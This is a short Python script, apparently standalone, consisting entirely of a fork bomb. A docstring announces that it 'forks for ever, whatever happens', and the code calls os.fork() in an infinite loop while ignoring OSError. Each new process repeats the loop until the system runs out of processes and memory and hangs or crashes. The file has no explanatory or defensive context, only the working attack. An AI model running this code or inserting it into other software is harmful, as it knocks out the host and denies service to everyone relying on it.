"""Forks for ever, whatever happens."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
